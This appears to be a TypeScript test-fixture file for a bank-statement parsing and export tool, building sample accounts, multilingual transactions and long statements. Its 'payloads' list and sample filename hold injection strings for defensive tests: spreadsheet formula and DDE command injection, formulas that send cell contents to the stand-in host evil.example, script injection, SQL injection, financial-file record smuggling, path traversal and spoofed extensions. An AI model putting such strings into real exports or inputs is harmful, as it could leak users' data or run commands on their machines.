import type { Account, StatementResult, Transaction } from '@crossfoot/contracts';

/** Results that the checks run over; small enough to be read, each with one thing that goes wrong easily. */
export function row(date: string, description: string, amount: number, more: Partial<Transaction> = {}): Transaction {
  return {
    date,
    transactionDate: null,
    valueDate: null,
    description,
    amount,
    balance: null,
    reference: null,
    currency: null,
    confidence: 0.99,
    flags: [],
    location: { page: 1, x: 0.1, y: 0.25, width: 0.8, height: 0.0125 },
    ...more,
  };
}

export function account(transactions: Transaction[], more: Partial<Account> = {}): Account {
  return {
    institution: 'Example Bank',
    accountNumber: '…1234',
    accountType: 'checking',
    currency: 'USD',
    period: { start: '2025-01-01', end: '2025-01-31' },
    openingBalance: null,
    closingBalance: null,
    reconciliation: { status: 'unverifiable', difference: null, checks: [], reasons: ['nothingToCheckAgainst'] },
    transactions,
    ...more,
  };
}

export function result(accounts: Account[], filename = 'January 2025.pdf'): StatementResult {
  return {
    source: { filename, sha256: 'ab'.repeat(32), pages: 3, ocrPages: 0, unreadPages: [], doubtfulPages: [] },
    accounts,
  };
}

/** Running balances filled in, opening and closing set, verdict balanced: arithmetic that agrees with itself. */
export function balanced(openingBalance: number, given: Account): Account {
  let cents = Math.round(openingBalance * 100);
  const transactions = given.transactions.map((transaction) => {
    cents += Math.round(transaction.amount * 100);
    return { ...transaction, balance: cents / 100 };
  });
  const reconciliation: Account['reconciliation'] = {
    status: 'balanced',
    difference: 0,
    checks: ['openingClosing', 'runningBalance'],
    reasons: [],
  };
  return { ...given, transactions, openingBalance, closingBalance: cents / 100, reconciliation };
}

const checking = balanced(
  1000,
  account([
    row('2025-01-02', 'CARD PURCHASE SUPERMARKET 0418, SPRINGFIELD', -52.35),
    row('2025-01-03', 'CHECK 1043', -750, { reference: '1043' }),
    row('2025-01-10', 'PAYROLL "ACME" INC & SONS', 1284.55, { reference: 'TRN-88 21' }),
    row('2025-01-15', 'ATM FEE', -2.5, { valueDate: '2025-01-16', flags: ['repairedDigit', 'lowConfidence'] }),
    row('2025-01-31', 'INTEREST PAID THIS PERIOD FOR THE ACCOUNT NAMED ABOVE', 0.07),
  ]),
);

const card = balanced(
  -320.1,
  account(
    [
      row('2025-01-05', 'ONLINE BOOKSHOP', -19.99, { currency: 'EUR', transactionDate: '2025-01-03' }),
      row('2025-01-20', 'PAYMENT THANK YOU', 320.1),
    ],
    {
      accountNumber: '…9876',
      accountType: 'creditCard',
    },
  ),
);

const foreign = account(
  [
    row('2025-01-02', 'Überweisung Müller & Söhne Straße', -12.5),
    row('2025-01-03', 'Zahlung — „Kaffee“ 5 €', -3.2),
    row('2025-01-04', 'Оплата Щука и Ёлка', -8),
    row('2025-01-05', 'Πληρωμή λογαριασμού', -9.99),
    row('2025-01-06', '購入 スーパー', -1200),
    row('2025-01-07', 'شراء من المتجر', -4.5),
  ],
  { institution: 'Crédit Éxemple', currency: 'EUR' },
);

/** Texts that a spreadsheet, a page, a terminal or a file system might act upon. */
export const payloads: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '"=1+1',
  '";=1+1',
  'abc;=1+1',
  'abc,=1+1',
  'abc";"=1+1',
  'abc\r\n=1+1',
  'abc\n2025-01-01,evil,999.00',
  '^\nT999\n^',
  'ENDTRNS\nTRNS\t\tCHECK',
  '</NAME><STMTTRN><TRNAMT>999</STMTTRN>',
  '<script>alert(1)</script>',
  '</t></is></c><c><f>1+1</f></c>',
  '\u202egnp.exe\u202c',
  'null\u0000byte \u001b[31mred\u0007',
  "' OR '1'='1",
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  "-2+3+cmd|' /C calc'!A0",
];

export const samples = {
  checking: result([checking]),
  card: result([card]),
  severalAccounts: result([
    checking,
    card,
    account([row('2025-01-09', 'Transfer', 25)], {
      accountNumber: '…1234',
      accountType: 'savings',
      closingBalance: 77,
    }),
    account([row('2025-01-11', 'Transfer', -5)], { accountNumber: '…1234', accountType: 'savings', currency: 'EUR' }),
  ]),
  empty: result([account([])]),
  noAccounts: result([]),
  twins: result([
    account([
      row('2025-01-02', 'COFFEE', -3.5),
      row('2025-01-02', 'COFFEE', -3.5),
      row('2025-01-02', 'Coffee  ', -3.5),
    ]),
  ]),
  foreign: result([foreign], 'Übersicht Jänner.pdf'),
  yen: result([
    account([row('2025-01-06', 'ATM', -12000), row('2025-01-07', 'SALARY', 250000)], {
      currency: 'JPY',
      openingBalance: 5000,
      closingBalance: 243000,
    }),
  ]),
  dinar: result([
    account([row('2025-01-06', 'SHOP', -1.125)], { currency: 'KWD', accountType: 'loan', accountNumber: null }),
  ]),
  payloads: result(
    [
      account(
        payloads.map((text, index) =>
          row('2025-01-02', text, -0.02 - index, { reference: text, flags: ['lowConfidence'] }),
        ),
        { institution: '=1+1' },
      ),
    ],
    '../../=1+1<img src=x onerror=alert(1)>\u202efdp.exe.pdf',
  ),
} satisfies Record<string, StatementResult>;

export type SampleName = keyof typeof samples;

const words = [
  'CARD PURCHASE SUPERMARKET',
  'SALARY EXAMPLE INC',
  'DIRECT DEBIT ELECTRICITY',
  'CASH WITHDRAWAL MAIN STREET',
];

/** A statement of any length with running balances. */
export function longResult(rows: number): StatementResult {
  const transactions = Array.from({ length: rows }, (_, index) => {
    const day = new Date(Date.UTC(2025, 0, 1 + Math.floor((index * 365) / rows))).toISOString().slice(0, 10);
    const cents = ((index * 7919) % 20_000) - 10_000;
    return row(
      day,
      `${words[index % 4]} ${(index * 31) % 9973}`,
      cents / 100,
      index % 3 === 0 ? { reference: `R${index}` } : {},
    );
  });
  return result(
    [balanced(1000, account(transactions, { period: { start: '2025-01-01', end: '2025-12-31' } }))],
    'long.pdf',
  );
}
